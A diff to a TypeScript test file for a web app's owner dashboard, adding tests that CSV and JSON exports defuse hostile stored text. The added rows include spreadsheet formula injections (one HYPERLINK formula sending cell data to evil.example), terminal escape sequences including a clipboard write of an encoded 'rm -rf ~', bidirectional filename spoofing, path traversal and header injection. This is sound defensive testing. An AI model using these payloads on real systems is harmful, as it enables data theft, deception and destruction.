@@ -1,11 +1,11 @@
-/** Attacks on the owner's desk on the web, a row each. All are refused. */
+/** Attacks on the owner's desk, a row each. All are refused. */
 import { env as bindings } from 'cloudflare:workers';
 import { SignJWT, UnsecuredJWT } from 'jose';
 import { beforeAll, beforeEach, describe, expect, test, vi } from 'vitest';
 import type { Env } from '../../worker/env.ts';
 import { audience, certificatesOf, createSigner, createTeam, person } from './support/access.ts';
 import { faultyDatabase } from './support/faulty.ts';
-import { createHarness, insertRows, passTime, rows, site } from './support/harness.ts';
+import { changeRows, createHarness, insertRows, passTime, rows, site } from './support/harness.ts';
 import { apply, contact, jsonPost, referenceOf } from './support/posts.ts';
 
 const local = 'http://localhost:8787';
@@ -416,8 +416,57 @@ test('An export of what is filtered is no formula in any cell, and a whole table
   expect(await filtered.json()).toMatchObject([{ fields: { name: 'Asha' } }]);
 });
 
+/** A held message with a text in each of its columns, as if the Worker had cleaned nothing. */
+async function keepHostile(text: string): Promise<void> {
+  await keep({ website: 'spam' });
+  await changeRows(
+    `email = ?1, page = ?1, service = ?1, held_reason = ?1, last_error = ?1, file_name = ?1,
+     fields = json_object('name', ?1, 'email', ?1, 'phoneNumber', ?1, 'message', ?1)`,
+    text,
+  );
+}
+
+const formulas = [
+  ['=cmd()', '+1', '-1', '@SUM(A1)', '\t=1', ' =1', '\r\n=1+1', '＝1', '|calc', '%x', '\u200b=1'],
+  ['=HYPERLINK("https://evil.example?x="&A1,"open")', 'x","=1+1', 'x"\r\n"=1+1', 'a, b'],
+].flat();
+
+test.each(formulas)('A spreadsheet takes the exported %j for text of one cell', async (text) => {
+  await keepHostile(text);
+  const table = await (await askSignedIn({ path: '/api/v1/desk/export/csv' })).text();
+  const cells = (of = '') =>
+    [...of.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell.replaceAll('""', '"'));
+  const all = cells(table);
+  expect(all).toHaveLength(2 * cells(table.split('\r\n')[0]).length);
+  expect(all.filter((cell) => cell.endsWith(text))).toHaveLength(9);
+  for (const cell of all) {
+    expect(cell).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝|%]/u);
+  }
+});
+
+/** Each moves a cursor, colours, names a window, rings, or turns the reading direction. */
+const commands = [
+  ['\u001b[2J\u001b[H', '\u001b]0;owned\u0007', '\u001b]52;c;cm0gLXJmIH4=\u0007'],
+  ['\u001b]8;;https://evil.example\u001b\\bank.example\u001b]8;;\u001b\\'],
+  ['\u009b31mred\u009d0;x\u009c', 'safe\rCC-AAAA-AAAA  delivered', 'unpaid\b\b\b\b\b\bpaid'],
+  ['invoice\u202Efdp.exe\u2066x\u2069', 'Asha\u2028Status: delivered\u0085x'],
+].flat();
+
+test.each([...commands, ...formulas])(
+  'An export as JSON holds %j, and no command',
+  async (text) => {
+    await keepHostile(text);
+    const json = await (await askSignedIn({ path: '/api/v1/desk/export/json' })).text();
+    expect(JSON.parse(json)).toMatchObject([{ fields: { name: text }, file_name: text }]);
+    expect(json).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\u2028\u2029]/u);
+  },
+);
+
 test.each([
   ['../../etc/passwd\0.pdf', 'passwd.pdf'],
+  ['..\\..\\run.bat', 'run.pdf'],
+  ['C:/x\u001b[2J|y.exe', 'x_2J_y.pdf'],
+  ['\u202Efdp.exe', 'fdp.pdf'],
   ['C:\\Windows\\cv"; filename="evil.exe', 'cv_ filename_evil.pdf'],
   ['a\r\nSet-Cookie: x=1.pdf', 'a Set-Cookie_ x_1.pdf'],
   ['<script>.html', 'script.pdf'],
